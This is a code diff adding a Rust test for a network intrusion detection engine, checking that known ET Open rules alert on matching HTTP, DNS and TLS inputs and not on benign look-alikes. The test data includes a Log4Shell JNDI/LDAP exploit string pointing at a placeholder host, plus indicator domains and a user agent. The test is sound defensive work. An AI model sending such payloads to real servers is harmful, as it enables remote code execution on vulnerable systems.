@@ -171,6 +171,97 @@ fn et_open_compiles_with_few_engine_rejections() {
     );
 }
 
+/// A to_server point of `f` once its protocol is known.
+fn point(f: &FlowMeta, app: AppProto, offset: u64) -> InspectCtx<'_> {
+    InspectCtx {
+        flow: f,
+        dir: Direction::ToResponder,
+        to_server: true,
+        established: true,
+        app: Some(app),
+        ip_protocol: f.connection_info.protocol_num,
+        ts: Timestamp::from_nanos(1_700_000_000_000_000_000),
+        packet: 1,
+        stream_offset: offset,
+    }
+}
+
+/// Known ET Open rules fire on the traffic they describe, at the kind of
+/// inspection point the pipeline hands over, and not on a benign variant.
+#[test]
+fn et_open_rules_fire_on_their_traffic() {
+    let Some(engine) = et_engine() else { return };
+    let mut engine = engine.lock().unwrap_or_else(|e| e.into_inner());
+    let mut tcp = flow(true);
+    tcp.connection_info.uid = "Cknown".to_owned();
+    let mut udp = flow(false);
+    udp.connection_info.uid = "Cknown-dns".to_owned();
+    let sids = |out: &[vigil_event::Event]| -> Vec<u32> {
+        out.iter()
+            .filter_map(|e| match &e.body {
+                vigil_event::Body::Finding(f) => f.rule.as_ref().map(|r| r.sid),
+                _ => None,
+            })
+            .collect()
+    };
+    let (tcp, udp) = (&tcp, &udp);
+    let cases: [(InspectCtx<'_>, Vec<(Buffer, &[u8])>, u32); 4] = [
+        // Log4Shell in the raw stream of an HTTP flow (payload rule).
+        (
+            point(tcp, AppProto::Http, 0),
+            vec![(
+                Buffer::Stream,
+                b"GET /?q=${JNDI:ldap://198.51.100.7/a} HTTP/1.1\r\nHost: x\r\n\r\n",
+            )],
+            2034647,
+        ),
+        // A user agent (depth, isdataat:!1,relative).
+        (
+            point(tcp, AppProto::Http, 0),
+            vec![(Buffer::HttpUserAgent, b"MSDW")],
+            2027389,
+        ),
+        // A DNS query name (nocase, endswith).
+        (
+            point(udp, AppProto::Dns, 0),
+            vec![(Buffer::DnsQuery, b"x.AppsDown.urbanvillager.xyz")],
+            2029107,
+        ),
+        // A TLS SNI (endswith).
+        (
+            point(tcp, AppProto::Tls, 0),
+            vec![(Buffer::TlsSni, b"cdn.maraukog.info")],
+            0,
+        ),
+    ];
+    for (ctx, bufs, sid) in &cases {
+        let mut out = Vec::new();
+        engine.inspect(ctx, bufs, &mut out);
+        let got = sids(&out);
+        if *sid != 0 {
+            assert!(got.contains(sid), "expected sid {sid}, got {got:?}");
+        } else {
+            assert!(!got.is_empty(), "expected an alert for {bufs:?}");
+        }
+    }
+    // Benign look-alikes: no alert from those rules.
+    let mut out = Vec::new();
+    engine.inspect(
+        &point(tcp, AppProto::Http, 100),
+        &[(Buffer::HttpUserAgent, b"MSDWX")],
+        &mut out,
+    );
+    assert!(!sids(&out).contains(&2027389));
+    engine.inspect(
+        &point(udp, AppProto::Dns, 0),
+        &[(Buffer::DnsQuery, b"urbanvillager.xyz.example")],
+        &mut out,
+    );
+    assert!(!sids(&out).contains(&2029107));
+    engine.flow_end("Cknown");
+    engine.flow_end("Cknown-dns");
+}
+
 fn flow(tcp: bool) -> FlowMeta {
     let ip = |s: &str| s.parse::<IpAddr>().expect("ip");
     FlowMeta {
